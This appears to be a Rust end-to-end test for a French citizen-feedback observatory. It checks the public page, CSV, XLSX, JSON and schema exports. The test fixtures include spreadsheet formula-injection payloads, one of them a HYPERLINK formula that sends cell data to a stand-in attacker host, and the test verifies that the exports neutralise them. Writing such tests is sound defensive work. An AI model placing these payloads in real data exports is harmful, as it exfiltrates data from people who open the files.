//! The public observatory end to end (DESIGN §12, issue 11), on both stores: votes posted through
//! real links for several démarches, flushed, then a day boundary (the observatory's window ends
//! yesterday) → `/observatoire`, its CSV and JSON, and the public démarche page show the right
//! counts, indexes, colours, the « at least 100 avis » rule and the declared criteria. Démarches
//! whose name or administration an attacker began with a formula character (issue 19, item 3)
//! come out of the CSV as text a spreadsheet never evaluates, and the CSV matches its Table Schema
//! cell by cell. Plus the operator's identity and the privacy notice on the citizen form
//! (DESIGN §13).

mod common;

use std::time::{Duration, Instant};

use chrono::{Days, Utc};
use common::*;

const OPEN_LIMITS: [&str; 4] = ["--rate-per-minute", "1000000000", "--rate-per-minute-demarche", "1000000000"];

/// Démarche 1: 120 avis, satisfaction 8.3 (green), ease 5.0 (orange), clarity 0.0 (red),
/// autonomy 25 %. Démarche 2: 99 avis (one short of publishing). Démarche 3: none yet.
/// Démarche 4: inactive, never listed.
const SCENARIO: [(i64, &str, &str); 4] = [
    (1, "Demande de carte grise", "ANTS"),
    (2, "Aide au logement", "Caisse d'allocations familiales"),
    (3, "Inscription sur les listes électorales", "Ministère de l'Intérieur"),
    (4, "Ancienne démarche", "ANTS"),
];

/// Démarches named by an attacker, (id, name, administration): each begins with a character
/// that starts a spreadsheet formula. Written straight into the store, as rows made before the
/// console refused such names are.
const HOSTILE: [(i64, &str, &str); 6] = [
    (11, "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez ici\")", "+33 Agence"),
    (12, "+Carte grise", "=1+1"),
    (13, "-Permis de conduire", "-Préfecture"),
    (14, "@SUM(A1:A9)", "@Mairie"),
    (15, "\tTabulation", "\tAgence"),
    (16, "\rRetour chariot", "\rCaisse"),
];

/// What a spreadsheet may read as the start of a formula (DESIGN §12), written out here rather
/// than taken from the server's code.
fn starts_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// `s` as an SQL expression of either store: quoted, tabs and carriage returns spelled with
/// `chr` (PostgreSQL) or `char` (SQLite).
fn sql_text(db_url: &str, s: &str) -> String {
    let chr = if db_url.starts_with("sqlite") { "char" } else { "chr" };
    let mut parts = Vec::new();
    let mut literal = String::new();
    for c in s.chars() {
        if c == '\t' || c == '\r' {
            parts.push(format!("'{}'", literal.replace('\'', "''")));
            literal.clear();
            parts.push(format!("{chr}({})", c as u32));
        } else {
            literal.push(c);
        }
    }
    parts.push(format!("'{}'", literal.replace('\'', "''")));
    parts.join(" || ")
}

/// Checks `cell` of a CSV against its Table Schema `field`; `false` when it is a missing value.
fn check_cell(field: &serde_json::Value, cell: &str, schema: &serde_json::Value) -> bool {
    let name = field["name"].as_str().unwrap();
    let constraints = &field["constraints"];
    if schema["missingValues"].as_array().unwrap().iter().any(|m| m == cell) {
        assert_ne!(constraints["required"], true, "{name}: a required cell is empty");
        return false;
    }
    let within = |v: f64| {
        if let Some(min) = constraints["minimum"].as_f64() {
            assert!(v >= min, "{name}: {v} under its minimum {min}");
        }
        if let Some(max) = constraints["maximum"].as_f64() {
            assert!(v <= max, "{name}: {v} over its maximum {max}");
        }
    };
    match field["type"].as_str().unwrap() {
        "integer" => {
            within(cell.parse::<i64>().unwrap_or_else(|_| panic!("{name}: {cell:?} is not an integer")) as f64)
        }
        "number" => {
            let v: f64 = cell.parse().unwrap_or_else(|_| panic!("{name}: {cell:?} is not a number"));
            assert!(v.is_finite(), "{name}: {cell:?}");
            within(v);
        }
        "boolean" => {
            let allowed: Vec<&serde_json::Value> = field["trueValues"]
                .as_array()
                .unwrap()
                .iter()
                .chain(field["falseValues"].as_array().unwrap())
                .collect();
            assert!(allowed.iter().any(|v| *v == cell), "{name}: {cell:?} is not one of {allowed:?}");
        }
        "date" => {
            chrono::NaiveDate::parse_from_str(cell, "%Y-%m-%d")
                .unwrap_or_else(|_| panic!("{name}: {cell:?} is not a date"));
        }
        "string" => {
            if field["format"] == "uri" {
                let uri: hyper::Uri = cell.parse().unwrap_or_else(|_| panic!("{name}: {cell:?} is not a URI"));
                assert!(uri.scheme().is_some() && uri.host().is_some(), "{name}: {cell:?} is not an absolute URI");
            }
        }
        other => panic!("{name}: type {other} unexpected"),
    }
    if let Some(values) = constraints["enum"].as_array() {
        assert!(values.iter().any(|v| v == cell), "{name}: {cell:?} is not one of {values:?}");
    }
    true
}

fn vote_of_1(key: &str, i: usize) -> String {
    let sat = if i < 90 {
        "bien"
    } else if i < 110 {
        "moyen"
    } else {
        "pas-bien"
    };
    let fac = if i.is_multiple_of(2) { "facile" } else { "difficile" };
    let aide = if i.is_multiple_of(4) { "&aide=aucune" } else { "&aide=proche" };
    let comment = if i == 7 { "&commentaire=Merci+%C3%A0+Jeanne+du+guichet" } else { "" };
    format!("key={key}&nd_source=button&satisfaction={sat}&facilite={fac}&clarte=pas-clair{aide}{comment}")
}

async fn scenario(db_url: &str, dir: &std::path::Path) {
    for (id, name, admin) in SCENARIO {
        let id = id.to_string();
        let mut args = vec!["demarche", "add", "--id", &id, "--name", name, "--administration", admin];
        match id.as_str() {
            "1" => args.extend(["--volume-annuel", "900000"]),
            "4" => args.push("--inactive"),
            _ => {}
        }
        cli(dir, db_url, &args);
    }
    let mut rename = String::new();
    for (id, name, admin) in HOSTILE {
        cli(dir, db_url, &["demarche", "add", "--id", &id.to_string(), "--name", "Nom provisoire"]);
        rename += &format!(
            "UPDATE demarche SET name = {}, administration = {} WHERE id = {id};",
            sql_text(db_url, name),
            sql_text(db_url, admin)
        );
    }
    // A negative declared volume (the command line took one until now) reads as undeclared.
    rename += "UPDATE demarche SET volume_annuel = -5 WHERE id = 13;";
    // Declared criteria, so that every column of the CSV has a cell to check against the schema.
    rename += "UPDATE demarche SET support_qualite = true, disponibilite = false, en_ligne = 'non' WHERE id = 12;";
    exec_sql(db_url, &rename).await;
    // What porteurs declared on their « Fiche », and démarche 1's own privacy notice.
    exec_sql(
        db_url,
        "UPDATE demarche SET en_ligne = 'oui', franceconnect = true, mobile = false, \
         privacy_controller = 'Agence nationale des titres sécurisés', privacy_dpo = 'dpd@ants.gouv.fr' WHERE id = 1; \
         UPDATE demarche SET en_ligne = 'partiel' WHERE id = 2;",
    )
    .await;
    let mut extra = OPEN_LIMITS.to_vec();
    extra.extend([
        "--flush-interval-ms",
        "100",
        "--operator-name",
        "Service des avis",
        "--operator-dpo",
        "dpo@service.example",
    ]);
    let mut server = Server::start_in(dir, db_url, &extra);

    // The citizen form: the operator's name, no Marianne, each démarche's privacy notice.
    let (_, _, form1) = get(&server.url(&server.form_path(1)), &[]).await;
    let form1 = text(&form1);
    assert!(form1.contains("Service des avis"), "operator name in the header");
    assert!(!form1.contains("République"), "no Marianne without --operator-marianne");
    assert!(form1.contains("Agence nationale des titres sécurisés") && form1.contains("dpd@ants.gouv.fr"));
    let form2 = text(&get(&server.url(&server.form_path(2)), &[]).await.2);
    assert!(
        form2.contains("Responsable du traitement\u{a0}: Service des avis.") && form2.contains("dpo@service.example")
    );
    assert!(form2.contains("effacés après 24\u{a0}mois"));

    // Votes through real links.
    let (k1, k2) = (server.signer().sign(1), server.signer().sign(2));
    let client = client();
    for i in 0..120 {
        let (status, _, _) = try_post_form(&client, &server.url("/Demarches/1/avis"), vote_of_1(&k1, i)).await.unwrap();
        assert_eq!(status, 303);
    }
    for i in 0..99 {
        let body = format!("key={k2}&nd_source=email&satisfaction={}", ["bien", "moyen"][i % 2]);
        let (status, _, _) = try_post_form(&client, &server.url("/Demarches/2/avis"), body).await.unwrap();
        assert_eq!(status, 303);
    }
    let store = open_store(db_url).await;
    let deadline = Instant::now() + Duration::from_secs(20);
    while store.count_avis().await.unwrap() < 219 {
        assert!(Instant::now() < deadline, "votes flushed");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    // Today's avis are not in the window yet (it ends yesterday): the public page reads the
    // store directly and says so.
    let (status, _, page) = get(&server.url("/Demarches/1"), &[]).await;
    assert_eq!(status, 200);
    assert!(text(&page).contains("À venir"), "today's avis wait for tomorrow");

    // The day boundary: move the aggregates one day back, as if the votes came yesterday.
    let shift = if db_url.starts_with("sqlite") {
        "UPDATE avis_daily SET day = date(day, '-1 day');"
    } else {
        "UPDATE avis_daily SET day = day - 1;"
    };
    exec_sql(db_url, shift).await;
    let today = widget_server::vote::paris_day(Utc::now().timestamp_millis());
    let (from, to) = (today - Days::new(365), today - Days::new(1));

    // The page.
    let (status, headers, body) = get(&server.url("/observatoire"), &[]).await;
    assert_eq!(status, 200);
    assert!(headers.get("set-cookie").is_none(), "the same bytes for everyone");
    let cache = headers["cache-control"].to_str().unwrap();
    assert!(cache.contains("s-maxage=") && !cache.contains("no-store") && !cache.contains("private"), "{cache}");
    let html = text(&body);
    assert!(html.contains(&format!("du {} au {}", from.format("%d/%m/%Y"), to.format("%d/%m/%Y"))));
    let row = |id: i64| -> String {
        html.split("<tr>")
            .find(|r| r.contains(&format!("href=\"/Demarches/{id}\"")))
            .unwrap_or_else(|| panic!("row of démarche {id}"))
            .split("</tr>")
            .next()
            .unwrap()
            .to_string()
    };
    let r1 = row(1);
    assert!(r1.contains("<span class=\"badge vert\">8,3\u{a0}/\u{a0}10"), "satisfaction green: {r1}");
    assert!(r1.contains("<span class=\"badge orange\">5,0\u{a0}/\u{a0}10"), "ease orange: {r1}");
    assert!(r1.contains("<span class=\"badge rouge\">0,0\u{a0}/\u{a0}10"), "clarity red: {r1}");
    assert!(r1.contains("25\u{a0}%") && r1.contains(">120<") && r1.contains("900\u{202f}000"), "{r1}");
    assert!(r1.contains("data-label=\"Réalisable en ligne\"><span class=\"badge vert\">Oui"), "{r1}");
    assert!(r1.contains("data-label=\"Compatible mobile\"><span class=\"badge rouge\">Non"), "{r1}");
    assert!(r1.contains("data-label=\"Disponibilité\"><span class=\"badge\">Non déclaré"), "{r1}");
    let r2 = row(2);
    assert!(r2.contains(">99<") && r2.contains("Nombre d'avis insuffisant") && !r2.contains("/\u{a0}10"), "{r2}");
    assert!(r2.contains("<span class=\"badge orange\">Partiel"), "{r2}");
    let r3 = row(3);
    assert!(r3.contains(">0<") && r3.contains("À venir"), "{r3}");
    assert!(!html.contains("/Demarches/4\""), "an inactive démarche is not listed");
    // Default order: volume (declared first), then avis. (The hostile démarches, without avis
    // nor volume, are left out of these orders.)
    let order = |html: &str| -> Vec<i64> {
        html.split("<th scope=\"row\"><a href=\"/Demarches/")
            .skip(1)
            .map(|s| s.split('"').next().unwrap().parse().unwrap())
            .filter(|id| *id < 10)
            .collect()
    };
    assert!(html.contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1"), "listed, escaped");
    assert_eq!(order(&html), [1, 2, 3]);
    let sorted = text(&get(&server.url("/observatoire?tri=avis&ordre=asc"), &[]).await.2);
    assert_eq!(order(&sorted), [3, 2, 1]);
    let by_admin = text(&get(&server.url("/observatoire?administration=ANTS"), &[]).await.2);
    assert_eq!(order(&by_admin), [1]);
    let by_word = text(&get(&server.url("/observatoire?q=ELECTORALES"), &[]).await.2);
    assert_eq!(order(&by_word), [3], "keyword, accents and case ignored");

    // Revalidation.
    let etag = headers["etag"].to_str().unwrap();
    let (status, _, body) = get(&server.url("/observatoire"), &[("if-none-match", etag)]).await;
    assert_eq!((status.as_u16(), body.len()), (304, 0));

    // The spreadsheet for people: French titles, typed cells (numbers, dates), frozen and
    // filterable header, a sheet explaining the columns; stable bytes, so 304 on revalidation.
    let (status, xlsx_headers, xlsx) = get(&server.url("/observatoire.xlsx"), &[]).await;
    assert_eq!(status, 200);
    assert_eq!(xlsx_headers["content-type"], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    assert!(xlsx_headers["cache-control"].to_str().unwrap().contains("s-maxage"));
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(xlsx.to_vec())).expect("a zip file");
    let mut read = |name: &str| {
        let mut out = String::new();
        if let Ok(mut f) = zip.by_name(name) {
            std::io::Read::read_to_string(&mut f, &mut out).unwrap();
        }
        out
    };
    let (sheet, strings, columns_sheet) =
        (read("xl/worksheets/sheet1.xml"), read("xl/sharedStrings.xml"), read("xl/worksheets/sheet2.xml"));
    assert!(strings.contains("Nombre d&apos;avis") || strings.contains("Nombre d'avis"), "French titles: {strings}");
    assert!(sheet.contains(r#"state="frozen""#) && sheet.contains("<autoFilter "), "frozen header with filters");
    assert!(
        sheet.contains("<c r=\"A2\"><v>1</v></c>") || sheet.contains("<c r=\"A2\" ><v>1</v></c>"),
        "ids are numbers: {}",
        &sheet[..sheet.len().min(3000)]
    );
    assert!(!columns_sheet.is_empty(), "a sheet explains the columns");
    assert!(!strings.contains("&apos;=") && !strings.contains("'="), "typed cells are not neutralised");
    let etag = xlsx_headers["etag"].to_str().unwrap();
    let (status, _, _) = get(&server.url("/observatoire.xlsx"), &[("if-none-match", etag)]).await;
    assert_eq!(status.as_u16(), 304, "the same snapshot makes the same bytes");

    // The CSV.
    let (status, headers, body) = get(&server.url("/observatoire.csv"), &[]).await;
    assert_eq!(status, 200);
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    let mut csv = csv::Reader::from_reader(&body[..]);
    let columns: Vec<String> = csv.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(columns, widget_server::console::open_data::CSV_COLUMNS);
    let rows: Vec<std::collections::HashMap<String, String>> = csv.deserialize().map(Result::unwrap).collect();
    assert_eq!(
        rows.iter().map(|r| r["demarche_id"].as_str()).collect::<Vec<_>>(),
        ["1", "2", "3", "11", "12", "13", "14", "15", "16"]
    );
    let c1 = &rows[0];
    assert_eq!(
        [&c1["nombre_avis"], &c1["statut"], &c1["satisfaction_indice"], &c1["facilite_indice"], &c1["clarte_indice"]],
        ["120", "publie", "8.33", "5.0", "0.0"]
    );
    assert_eq!([&c1["autonomie_pct"], &c1["realisable_en_ligne"], &c1["franceconnect"]], ["25.0", "oui", "oui"]);
    assert_eq!([&c1["compatible_mobile"], &c1["disponibilite"]], ["non", ""]);
    assert_eq!([&c1["periode_debut"], &c1["periode_fin"]], [&from.to_string(), &to.to_string()]);
    assert_eq!(
        [&rows[1]["nombre_avis"], &rows[1]["statut"], &rows[1]["satisfaction_indice"]],
        ["99", "insuffisant", ""]
    );
    assert_eq!([&rows[2]["nombre_avis"], &rows[2]["statut"]], ["0", "a_venir"]);

    // Formulas: no cell of the file begins with a character that starts one, and each hostile
    // text is still there, behind the apostrophe a spreadsheet shows as text.
    let records: Vec<csv::StringRecord> = csv::Reader::from_reader(&body[..]).records().map(Result::unwrap).collect();
    for record in &records {
        for cell in record {
            assert!(!starts_formula(cell), "a cell a spreadsheet would evaluate: {cell:?} in {record:?}");
        }
    }
    for (id, name, admin) in HOSTILE {
        let row = rows.iter().find(|r| r["demarche_id"] == id.to_string()).unwrap();
        assert_eq!(row["nom"], format!("'{name}"), "démarche {id}");
        assert_eq!(row["administration"], format!("'{admin}"), "démarche {id}");
    }
    let r13 = rows.iter().find(|r| r["demarche_id"] == "13").unwrap();
    assert_eq!(r13["volume_annuel"], "", "a negative volume is not declared");

    // The Table Schema describes exactly these columns, in order, cached like the CSV; every
    // non-empty cell of the file parses as its field's type, within its constraints.
    let csv_cache = headers["cache-control"].to_str().unwrap().to_string();
    let (status, schema_headers, schema_body) = get(&server.url("/observatoire.schema.json"), &[]).await;
    assert_eq!(status, 200);
    assert_eq!(schema_headers["content-type"], "application/json");
    assert_eq!(schema_headers["cache-control"], csv_cache.as_str());
    assert!(schema_headers.get("set-cookie").is_none() && schema_headers.get("etag").is_some());
    let schema: serde_json::Value = serde_json::from_slice(&schema_body).unwrap();
    let fields = schema["fields"].as_array().unwrap();
    let names: Vec<&str> = fields.iter().map(|f| f["name"].as_str().unwrap()).collect();
    assert_eq!(names, columns, "the schema's fields are the CSV's header, column for column");
    for f in fields {
        assert!(!f["title"].as_str().unwrap().is_empty() && !f["description"].as_str().unwrap().is_empty(), "{f}");
    }
    let mut checked = vec![0; fields.len()];
    for record in &records {
        assert_eq!(record.len(), fields.len());
        for (i, (field, cell)) in fields.iter().zip(record).enumerate() {
            checked[i] += usize::from(check_cell(field, cell, &schema));
        }
    }
    for (field, n) in fields.iter().zip(&checked) {
        assert!(*n > 0, "no cell of {} was checked", field["name"]);
    }
    let ids: std::collections::HashSet<&str> = records.iter().map(|r| &r[0]).collect();
    assert_eq!(ids.len(), records.len(), "demarche_id is unique");

    // The JSON.
    let (status, _, body) = get(&server.url("/observatoire.json"), &[]).await;
    assert_eq!(status, 200);
    let doc: serde_json::Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(
        (doc["periode_debut"].as_str(), doc["periode_fin"].as_str()),
        (Some(&*from.to_string()), Some(&*to.to_string()))
    );
    let j1 = &doc["demarches"][0];
    assert_eq!((j1["demarche_id"].as_i64(), j1["nombre_avis"].as_i64()), (Some(1), Some(120)));
    assert_eq!((j1["satisfaction_indice"].as_f64(), j1["clarte_indice"].as_f64()), (Some(8.33), Some(0.0)));
    assert_eq!(j1["compatible_mobile"], "non");
    assert!(j1["disponibilite"].is_null());
    assert!(doc["demarches"][1]["satisfaction_indice"].is_null(), "under 100 avis: no index");
    let listed = doc["demarches"].as_array().unwrap();
    assert_eq!(listed.len(), 3 + HOSTILE.len());
    // The JSON is for programs: the texts as written.
    for ((id, name, admin), j) in HOSTILE.iter().zip(&listed[3..]) {
        assert_eq!((j["demarche_id"].as_i64(), j["nom"].as_str()), (Some(*id), Some(*name)));
        assert_eq!(j["administration"].as_str(), Some(*admin));
    }
    assert!(listed[5]["volume_annuel"].is_null(), "démarche 13's negative volume");

    // The public page of démarche 1 matches, without comments or porteurs.
    let (status, headers, body) = get(&server.url("/Demarches/1"), &[]).await;
    assert_eq!(status, 200);
    assert!(headers.get("set-cookie").is_none());
    let page = text(&body);
    assert!(page.contains("<span class=\"badge vert\">8,3\u{a0}/\u{a0}10") && page.contains("25\u{a0}%"));
    assert!(page.contains("<svg") && page.contains("role=\"img\"") && page.contains("Tendance sur 12 mois, en texte"));
    assert!(!page.contains("Jeanne"), "no comment on a public page");
    let page2 = text(&get(&server.url("/Demarches/2"), &[]).await.2);
    assert!(page2.contains("Nombre d'avis insuffisant") && !page2.contains("/\u{a0}10"));
    // A key that does not verify is still the citizen's 404; an inactive démarche has no page.
    for form_link in ["/Demarches/1?key=0000", "/Demarches/1?key=", "/Demarches/1?view-mode=formulaire-avis"] {
        let (status, _, body) = get(&server.url(form_link), &[]).await;
        assert_eq!(status, 404, "{form_link}");
        assert!(text(&body).contains("Ce lien d'avis n'est pas valide"), "{form_link}");
    }
    assert_eq!(get(&server.url("/Demarches/4"), &[]).await.0, 404);
    assert_eq!(get(&server.url("/Demarches/99"), &[]).await.0, 404);

    // The operator's name heads the console's pages too.
    assert!(text(&get(&server.url("/"), &[]).await.2).contains("Service des avis"));
    assert!(server.terminate().success());
}

#[tokio::test]
async fn observatory_on_sqlite() {
    let (tmp, url) = Server::sqlite_dir();
    scenario(&url, tmp.path()).await;
}

#[tokio::test]
async fn observatory_on_postgres() {
    let url = fresh_pg_database("observatory_e2e").await;
    let tmp = tempfile::tempdir().unwrap();
    scenario(&url, tmp.path()).await;
}

#[tokio::test]
async fn marianne_only_when_the_operator_says_so() {
    let server = Server::sqlite_with(&[(1, "Carte grise")], &["--operator-marianne", "--operator-name", "Ministère X"]);
    let form = text(&get(&server.url(&server.form_path(1)), &[]).await.2);
    assert!(form.contains("République") && form.contains("Ministère X"));
    let home = text(&get(&server.url("/observatoire"), &[]).await.2);
    assert!(home.contains("République") && home.contains("Ministère X"));
}
